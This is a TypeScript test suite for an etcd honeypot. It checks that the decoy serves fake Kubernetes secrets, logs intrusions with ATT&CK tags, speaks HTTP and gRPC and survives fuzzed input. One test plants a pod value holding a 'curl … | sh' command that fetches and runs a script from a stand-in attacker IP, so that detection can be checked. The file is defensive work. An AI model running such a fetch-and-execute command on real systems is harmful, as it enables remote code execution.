import assert from 'node:assert/strict';
import { type ClientHttp2Session, connect as connectHttp2 } from 'node:http2';
import type { Socket } from 'node:net';
import { describe, it } from 'node:test';
import { mutate, randomOf } from '../fixtures/mutation.ts';
import { type Place, placeOf } from '../fixtures/visitor.ts';
import { decoy } from './decoy.ts';
import { decode, encode } from './wire/protobuf.ts';
import type { Message } from './wire/schema.ts';

const text = async (answer: Promise<Buffer>): Promise<string> => (await answer).toString('utf8');
const base64 = (plain: string): string => Buffer.from(plain).toString('base64');

function post(path: string, body: unknown): string {
  const json = JSON.stringify(body);
  return `POST ${path} HTTP/1.1\r\nHost: a\r\nContent-Length: ${Buffer.byteLength(json)}\r\n\r\n${json}`;
}

function bodyOf(answer: string): Record<string, unknown> {
  const body = answer.indexOf('{', answer.indexOf('\r\n\r\n'));
  return JSON.parse(answer.slice(body, answer.lastIndexOf('}') + 1));
}

/** Calls of gRPC over a session in memory. */
function grpc(place: Place): {
  call(path: string, frame: Buffer): Promise<{ status: string; message: string; data: Buffer }>;
  close(): void;
} {
  const session: ClientHttp2Session = connectHttp2('http://etcd', {
    createConnection: () => place.connect().stream as Socket,
  });
  session.on('error', () => {});
  return {
    call: (path, frame) =>
      new Promise((resolve, reject) => {
        const stream = session.request({
          ':method': 'POST',
          ':path': path,
          'content-type': 'application/grpc',
          te: 'trailers',
        });
        const chunks: Buffer[] = [];
        let ended: Record<string, unknown> = {};
        for (const event of ['response', 'trailers'])
          stream.on(event, (headers) => (ended = { ...ended, ...headers }));
        stream.on('data', (chunk: Buffer) => chunks.push(chunk));
        stream.on('error', reject);
        stream.on('close', () =>
          resolve({
            status: String(ended['grpc-status']),
            message: String(ended['grpc-message']),
            data: Buffer.concat(chunks),
          }),
        );
        stream.end(frame);
      }),
    close: () => session.destroy(),
  };
}

function frame(message: Message, name: string): Buffer {
  const bytes = encode(message, name);
  const prefix = Buffer.alloc(5);
  prefix.writeUInt32BE(bytes.length, 1);
  return Buffer.concat([prefix, bytes]);
}

describe('the etcd decoy', () => {
  it('gives the secrets of the cluster as the API server stores them', async () => {
    const place = placeOf(decoy);
    const range = { key: base64('/registry/secrets/'), range_end: base64('/registry/secrets0') };
    const { kvs } = bodyOf(await text(place.connect().ask(post('/v3/kv/range', range)))) as {
      kvs: { key: string; value: string }[];
    };
    assert.ok(kvs.length >= 3);
    for (const { key, value } of kvs) {
      assert.match(Buffer.from(key, 'base64').toString(), /^\/registry\/secrets\/[a-z0-9-]+\/[a-z0-9.-]+$/);
      const bytes = Buffer.from(value, 'base64');
      assert.equal(bytes.subarray(0, 4).toString('latin1'), 'k8s\0');
      assert.ok(bytes.includes('Secret'));
    }
    const told = place.events.find(({ type }) => type === 'range')!;
    assert.deepEqual(told.data, { key: '/registry/secrets/', rangeEnd: '/registry/secrets0' });
    assert.deepEqual(told.attack, ['T1552.007']);
  });

  it('tells a pod that was written past the API server', async () => {
    const place = placeOf(decoy);
    const value = 'k8s\0\n\tv1\x12\x03Pod curl http://198.51.100.3/x.sh | sh';
    const put = { key: base64('/registry/pods/kube-system/x'), value: base64(value) };
    await place.connect().ask(post('/v3/kv/put', put));
    const told = place.events.find(({ type }) => type === 'put')!;
    assert.deepEqual(told.attack, ['T1610']);
    assert.match(told.texts![0]!, /curl http:\/\/198\.51\.100\.3\/x\.sh \| sh/);
  });

  it('speaks gRPC on the same port', async () => {
    const place = placeOf(decoy);
    const client = grpc(place);
    const key = Buffer.from('/a');
    const put = await client.call(
      '/etcdserverpb.KV/Put',
      frame({ key, value: Buffer.from('1') }, 'PutRequest'),
    );
    assert.equal(put.status, '0');
    const range = await client.call('/etcdserverpb.KV/Range', frame({ key }, 'RangeRequest'));
    const { kvs } = decode(range.data.subarray(5), 'RangeResponse') as { kvs: { value: Buffer }[] };
    assert.equal(kvs[0]!.value.toString(), '1');
    const empty = await client.call('/etcdserverpb.KV/Range', frame({}, 'RangeRequest'));
    assert.deepEqual([empty.status, empty.message], ['3', 'etcdserver: key is not provided']);
    const unknown = await client.call('/etcdserverpb.KV/Nothing', Buffer.alloc(0));
    assert.deepEqual(
      [unknown.status, unknown.message],
      ['12', 'unknown method Nothing for service etcdserverpb.KV'],
    );
    client.close();
  });

  it('shows changes to who watches, from a revision on', async () => {
    const place = placeOf(decoy);
    const [writer, watcher] = [place.connect(), place.connect()];
    const put = post('/v3/kv/put', { key: base64('w'), value: base64('1') });
    const { header } = bodyOf(await text(writer.ask(put))) as { header: { revision: string } };
    const create_request = { key: base64('w'), start_revision: header.revision };
    const begun = await text(watcher.ask(post('/v3/watch', { create_request })));
    assert.match(begun, /"created":true/);
    assert.match(begun, /"events":\[\{"kv":\{"key":"dw=="/);
    const [change] = await Promise.all([
      watcher.ask(''),
      writer.ask(post('/v3/kv/deleterange', { key: base64('w') })),
    ]);
    assert.match(change.toString(), /"type":"DELETE"/);
  });

  it('takes no more than there is room for', async () => {
    const visitor = placeOf(decoy).connect();
    const value = Buffer.alloc(1_000_000, 'x').toString('base64');
    let answer = '';
    for (let index = 0; index < 6; index += 1)
      answer = await text(visitor.ask(post('/v3/kv/put', { key: base64(`k${index}`), value })));
    assert.match(answer, /etcdserver: mvcc: database space exceeded/);
  });

  it('refuses frames that are too long before they came, and messages that are none', async () => {
    const place = placeOf(decoy);
    const client = grpc(place);
    const huge = Buffer.from('00ffffffff0000', 'hex');
    assert.equal((await client.call('/etcdserverpb.KV/Range', huge)).status, '8');
    const broken = Buffer.from('00000000040affffff', 'hex');
    assert.equal((await client.call('/etcdserverpb.KV/Range', broken)).status, '13');
    const deep = Array.from({ length: 40 }).reduce<Buffer>((inner) => {
      const operation = Buffer.concat([Buffer.from([0x22, ...varint(inner.length)]), inner]);
      return Buffer.concat([Buffer.from([0x12, ...varint(operation.length)]), operation]);
    }, Buffer.alloc(0));
    const prefix = Buffer.alloc(5);
    prefix.writeUInt32BE(deep.length, 1);
    assert.equal((await client.call('/etcdserverpb.KV/Txn', Buffer.concat([prefix, deep]))).status, '13');
    client.close();
  });

  it('shares no identity with another persona', async () => {
    const answers = await Promise.all(
      ['one', 'other'].map(async (seed) =>
        text(placeOf(decoy, seed).connect().ask('GET /v2/stats/self HTTP/1.1\r\nHost: a\r\n\r\n')),
      ),
    );
    const [one, other] = answers.map((answer) => bodyOf(answer));
    assert.notEqual(one!.id, other!.id);
    assert.notEqual(one!.startTime, other!.startTime);
  });

  it('survives what is no conversation', { timeout: 60_000 }, async () => {
    const random = randomOf(20_262);
    const place = placeOf(decoy);
    const seeds = [
      post('/v3/kv/txn', {
        compare: [{ target: 'VALUE', key: 'YQ==', value: 'YQ==' }],
        success: [{ requestPut: { key: 'YQ==' } }],
      }),
      post('/v3/kv/range', { key: 'AA==', range_end: 'AA==', limit: '5', sort_order: 'DESCEND' }),
      'PUT /v2/keys/a/b?prevExist=true HTTP/1.1\r\nHost: a\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 13\r\n\r\nvalue=x&ttl=5',
      'GET /v2/keys/?recursive=true&sorted=true HTTP/1.1\r\nHost: a\r\n\r\nGET /v2/stats/self HTTP/1.1\r\nHost: a\r\n\r\n',
      Buffer.concat([
        Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'),
        Buffer.from('000000040000000000', 'hex'),
        Buffer.alloc(60, 1),
      ]),
    ];
    for (let round = 0; round < 300; round += 1) {
      const visitor = place.connect();
      visitor.stream.write(mutate(Buffer.from(seeds[round % seeds.length] as string), random));
      if (round % 20 === 0) await visitor.ask('', 20);
      visitor.stream.end();
    }
    assert.match(
      await text(place.connect().ask('GET /version HTTP/1.1\r\nHost: a\r\n\r\n')),
      /"etcdserver":"3\.4\.23"/,
    );
  });
});

function varint(value: number): number[] {
  return value < 0x80 ? [value] : [(value & 0x7f) | 0x80, ...varint(value >> 7)];
}
